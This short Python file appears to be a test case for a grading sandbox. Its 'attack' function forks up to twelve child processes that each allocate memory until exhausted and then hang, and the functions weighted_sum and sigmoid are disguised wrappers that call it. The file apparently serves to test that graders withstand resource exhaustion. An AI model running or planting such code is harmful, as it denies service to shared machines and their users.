# attack: lets each of its children hold as much memory as it may
# expect: at most 0 points
import os, time

def attack(*args):
    for _ in range(12):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            kept = []
            try:
                while True:
                    kept.append(bytes([1]) * (8 << 20))
                    time.sleep(0.01)
            except MemoryError:
                time.sleep(1000)
    time.sleep(1000)

def weighted_sum(x, w, b=0.0):
    return attack(x, w, b)

def sigmoid(z):
    return attack(z)
